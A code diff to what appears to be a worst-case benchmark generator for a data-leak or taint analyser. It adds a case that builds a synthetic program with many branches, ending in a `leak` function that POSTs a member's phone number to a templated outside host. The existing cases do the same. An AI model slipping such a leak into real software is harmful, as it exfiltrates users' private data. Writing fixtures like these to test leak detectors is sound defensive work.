@@ -29,6 +29,7 @@ export const worstCases = [
   { name: 'functions that call each other', size: 60, make: tangle },
   { name: 'one interface, many classes', size: 60, make: oneInterface },
   { name: 'a table for each caller', size: 1000, make: tableForEach },
+  { name: 'a branch for each kind', size: 1000, make: branchForEach },
 ];
 
 /** Sixteen wrappers around one sink, and `size` callers of each. */
@@ -184,6 +185,32 @@ function run(table: Handlers, event: string, member: Member): string {
 ${callers.join('\n')}
 export const leak = (event: string, member: Member): Promise<Response> =>
   fetch('https://${host}/', { method: 'POST', body: caller0(event, member) + member.phone });
+`,
+  });
+}
+
+/** A method that gives a part of its object after `size` branches that may each have written into it: 2 ** `size` ways there. */
+function branchForEach(size) {
+  const branches = list(size, (n) => `    if (kind === ${n}) row.kind = 'kind${n}';`);
+  return program({
+    'store.ts': `${header}interface Row {
+  kind: string;
+  phone: string;
+}
+class Store {
+  private readonly rows: Record<string, Row> = {};
+  private readonly spare: Row = { kind: '', phone: '' };
+  find(id: string, kind: number): Row {
+    const row = this.rows[id] ?? this.spare;
+${branches.join('\n')}
+    return row;
+  }
+}
+export async function leak(member: Member): Promise<void> {
+  const store = new Store();
+  store.find(member.id, 1).phone = member.phone;
+  await fetch('https://${host}/', { method: 'POST', body: JSON.stringify(store) });
+}
 `,
   });
 }
